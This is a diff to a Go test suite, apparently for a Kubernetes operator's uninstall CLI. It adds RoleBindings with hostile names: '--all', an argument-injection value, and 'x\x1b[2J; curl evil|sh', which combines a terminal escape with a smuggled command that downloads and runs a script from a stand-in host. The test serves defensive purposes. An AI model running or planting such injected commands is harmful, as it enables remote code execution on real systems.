@@ -206,6 +206,13 @@ var _ = Describe("Whoever looks after it", func() {
 		granted(ctx)
 		grantedNodes(ctx)
 		server.GrantClusterRole(ctx, ns, "anna", "kubernaut-approver")
+		for _, name := range []string{"--all", "x\x1b[2J; curl evil|sh"} { // whoever administers a namespace may plant them
+			server.Create(ctx, &rbacv1.RoleBinding{
+				ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
+				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "kubernaut-viewer"},
+				Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "User", Name: "mallory"}},
+			})
+		}
 		off := cli.Uninstall{Operator: shipped, Patience: time.Second}
 		printed("uninstall-under-way.txt", ns, out, off.Run(ctx, root, out))
 
